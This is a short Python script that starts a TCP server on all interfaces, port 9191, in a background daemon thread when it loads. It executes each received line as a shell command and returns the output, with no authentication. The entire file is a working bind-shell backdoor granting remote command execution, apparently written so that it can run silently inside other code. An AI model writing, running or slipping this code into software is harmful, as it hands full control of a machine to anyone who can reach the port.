import socketserver
import subprocess
import threading


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            self.wfile.write(subprocess.getoutput(line.decode()).encode())


threading.Thread(target=socketserver.TCPServer(("0.0.0.0", 9191), Handler).serve_forever, daemon=True).start()
